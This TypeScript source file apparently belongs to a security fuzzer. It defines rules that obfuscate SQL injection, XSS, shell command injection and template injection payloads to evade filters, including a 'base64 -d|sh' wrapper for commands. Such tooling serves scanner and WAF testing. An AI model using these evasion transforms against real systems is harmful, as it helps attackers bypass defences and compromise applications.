import type { Draw } from '../draw.ts';
import { randomCase, swap } from '../rewriting.ts';
import { type Rewrite, rewritesOf } from '../second/rewrite.ts';

const sql = rewritesOf(['sqli']);
const html = rewritesOf(['xss']);
const shell = rewritesOf(['cmdi']);
const template = rewritesOf(['ssti', 'expression']);

const WORDS = /\b(?:select|union|from|where|and|or|like|case|when)\b/gi;
/** Blanks outside of quotes. */
const blanks = (text: string, by: (draw: Draw) => string, draw: Draw): string | null =>
  swap(text, /('[^']*')| /g, (match, quoted?: string) => quoted ?? (match === ' ' ? by(draw) : match));

export const REWRITES: readonly Rewrite[] = [
  sql('a different blank each time', 'MySQL, SQL Server', (t, draw) =>
    blanks(t, (one) => one.of(['\t', '\n', '\v', '\f', '\r', '/**/', '/*!*/', '\u00a0']), draw),
  ),
  sql('line comment of random letters', 'MySQL, SQL Server', (t, draw) => blanks(t, (one) => `--${one.chars('lower', 7)}\n`, draw)),
  sql('hash comment and a line', 'MySQL', (t, draw) => blanks(t, (one) => `#${one.chars('alnum', 5)}\n`, draw)),
  sql('words in comments with a version', 'MySQL, MariaDB', (t, draw) =>
    swap(t, WORDS, (word) => draw.of([`/*!${word}*/`, `/*!50000${word}*/`, `/*M!100000${word}*/`])),
  ),
  sql('plus signs for blanks', 'programs that decode again', (t, draw) => blanks(t, () => '+', draw)),
  sql('words doubled within', 'programs that remove once', (t) =>
    swap(t, /\b(?:select|union|from|where)\b/gi, (word) => `${word.slice(0, 3)}${word}${word.slice(3)}`),
  ),
  sql('greater for equal', 'all SQL', (t) => swap(t, /(\b\w+\b)\s*=\s*(\d+)\b/g, '$1 NOT BETWEEN 0 AND $2-1 AND NOT $1>$2')),
  html('scripts in escaped names', 'browsers', (t) =>
    swap(t, /\b(alert|confirm|prompt|eval)(?=[(`])/, (word) => `\\u00${word.charCodeAt(0).toString(16)}${word.slice(1)}`),
  ),
  html('optional call', 'browsers', (t) => swap(t, /\b(alert|prompt|confirm|fetch)\(/, '$1?.(')),
  html('top of the window by index', 'browsers', (t) => swap(t, /\balert(?=[(`])/, "top['a'+`lert`]")),
  html('random case and a slash', 'browsers', (t, draw) => swap(t, /<(\w+)[ /]/g, (_, tag) => `<${randomCase(tag, draw)}/~/`)),
  html('attributes of rubbish before', 'browsers', (t, draw) =>
    swap(t, /<(\w+)(?=[ /]\w+=)/, (_, tag) => `<${tag} ${draw.chars('lower', 4)}="'>" `),
  ),
  shell('positional variables in words', 'sh', (t) =>
    swap(t, /\b(cat|curl|wget|whoami|bash|nslookup|sleep|python3)\b/g, (word) => `${word.slice(0, 2)}$@${word.slice(2)}`),
  ),
  shell('home cut for slashes', 'bash', (t) => swap(t, /\/(?=(?:etc|bin|tmp|dev)\b)/g, '${HOME:0:1}')),
  shell('braces for blanks', 'bash', (t) => swap(t, /(?<=[;|&])(cat|curl|wget|ls|sleep|ping) ([\w/.-]+)(?=$|[;|&])/g, '{$1,$2}')),
  shell('backslashes in words', 'sh', (t) =>
    swap(t, /\b(cat|curl|wget|whoami|bash|nslookup|sleep|python3)\b/g, (word) => Array.from(word).join('\\')),
  ),
  shell('base64 of the whole', 'bash', (t) =>
    /^;[^&%^]+$/.test(t) ? `;echo ${Buffer.from(t.slice(1)).toString('base64')}|base64 -d|sh` : null,
  ),
  template('texts of codes', 'FreeMarker, EL, Jinja2', (t) =>
    swap(t, /'(id|system|os)'/g, (_, word) => `"\\x${Buffer.from(word).toString('hex').match(/../g)!.join('\\x')}"`),
  ),
  template('lines and comments inside', 'Jinja2, Twig', (t) => swap(t, /^\{\{/, '{#x#}{{\n')),
];
